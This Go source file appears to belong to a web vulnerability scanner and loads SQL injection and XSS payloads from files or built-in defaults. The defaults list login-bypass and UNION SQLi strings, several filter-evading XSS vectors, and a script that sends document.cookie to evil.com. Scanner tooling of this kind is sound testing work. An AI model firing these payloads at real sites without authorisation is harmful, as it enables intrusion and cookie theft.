// Package payloads loads the injection payload sets used by the SQLi and
// XSS scanners. Payloads can be overridden from files; missing or broken
// files fall back to the built-in sets with a warning.
package payloads

import (
	"bufio"
	"encoding/json"
	"os"
	"strings"

	"github.com/rs/zerolog"
)

// SQLiPayload is one SQL injection attempt. ExpectedResult, when set, is a
// marker whose presence in the response indicates the payload took effect.
type SQLiPayload struct {
	Name           string `json:"name"`
	Payload        string `json:"payload"`
	ExpectedResult string `json:"expected_result,omitempty"`
}

// Store holds the loaded payload sets.
type Store struct {
	sqli   []SQLiPayload
	xss    []string
	logger zerolog.Logger
}

// NewStore loads payloads from the given files. Either path may be empty to
// use the built-in defaults.
func NewStore(sqliFile, xssFile string, log zerolog.Logger) *Store {
	s := &Store{
		logger: log.With().Str("component", "PayloadStore").Logger(),
	}
	s.sqli = s.loadSQLi(sqliFile)
	s.xss = s.loadXSS(xssFile)
	return s
}

// SQLi returns the SQL injection payloads in their configured order.
func (s *Store) SQLi() []SQLiPayload {
	return s.sqli
}

// XSS returns the XSS payloads in their configured order.
func (s *Store) XSS() []string {
	return s.xss
}

func (s *Store) loadSQLi(path string) []SQLiPayload {
	if path == "" {
		return DefaultSQLiPayloads()
	}

	data, err := os.ReadFile(path)
	if err != nil {
		s.logger.Warn().Err(err).Str("path", path).Msg("Could not read SQLi payload file, using defaults")
		return DefaultSQLiPayloads()
	}

	var payloads []SQLiPayload
	if err := json.Unmarshal(data, &payloads); err != nil {
		s.logger.Warn().Err(err).Str("path", path).Msg("Could not parse SQLi payload file, using defaults")
		return DefaultSQLiPayloads()
	}
	if len(payloads) == 0 {
		s.logger.Warn().Str("path", path).Msg("SQLi payload file is empty, using defaults")
		return DefaultSQLiPayloads()
	}

	s.logger.Info().Int("count", len(payloads)).Str("path", path).Msg("Loaded SQLi payloads")
	return payloads
}

func (s *Store) loadXSS(path string) []string {
	if path == "" {
		return DefaultXSSPayloads()
	}

	file, err := os.Open(path)
	if err != nil {
		s.logger.Warn().Err(err).Str("path", path).Msg("Could not read XSS payload file, using defaults")
		return DefaultXSSPayloads()
	}
	defer file.Close()

	var payloads []string
	scanner := bufio.NewScanner(file)
	for scanner.Scan() {
		line := strings.TrimSpace(scanner.Text())
		if line != "" {
			payloads = append(payloads, line)
		}
	}
	if err := scanner.Err(); err != nil {
		s.logger.Warn().Err(err).Str("path", path).Msg("Error reading XSS payload file, using defaults")
		return DefaultXSSPayloads()
	}
	if len(payloads) == 0 {
		s.logger.Warn().Str("path", path).Msg("XSS payload file is empty, using defaults")
		return DefaultXSSPayloads()
	}

	s.logger.Info().Int("count", len(payloads)).Str("path", path).Msg("Loaded XSS payloads")
	return payloads
}

// DefaultSQLiPayloads returns the built-in SQL injection payload set.
func DefaultSQLiPayloads() []SQLiPayload {
	return []SQLiPayload{
		{Name: "Login Bypass", Payload: "' OR '1'='1", ExpectedResult: "Welcome"},
		{Name: "Union Based", Payload: "' UNION SELECT 1,2,3--", ExpectedResult: "2"},
		{Name: "Error Based", Payload: "' OR 1=1--", ExpectedResult: "Welcome"},
		{Name: "Boolean Based", Payload: "' OR 1=1#", ExpectedResult: "Welcome"},
		{Name: "Time Based", Payload: "' OR (SELECT COUNT(*) FROM users) > 0--", ExpectedResult: "Welcome"},
	}
}

// DefaultXSSPayloads returns the built-in XSS payload set, ordered from
// plain script tags to filter-evasion variants.
func DefaultXSSPayloads() []string {
	return []string{
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		"<svg onload=alert(1)>",
		"<body onload=alert(1)>",
		"javascript:alert(1)",
		`<iframe src="javascript:alert(1)"></iframe>`,
		"<script>document.cookie</script>",
		`"><script>alert(1)</script>`,
		"';alert(1);//",
		`<img src="x" onerror="alert(document.domain)">`,
		"<script>fetch('https://evil.com?cookie='+document.cookie)</script>",
		`<div style="background-image: url(javascript:alert(1))">`,
		`<a href="javascript:alert(1)">Click me</a>`,
		`<a onmouseover="alert(1)">hover me</a>`,
		"<ScRiPt>alert(1)</ScRiPt>",
		"<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
		"<input onfocus=alert(1) autofocus>",
		"<marquee onstart=alert(1)>",
		"<details open ontoggle=alert(1)>",
		"<video src=1 onerror=alert(1)>",
		"<audio src=1 onerror=alert(1)>",
	}
}
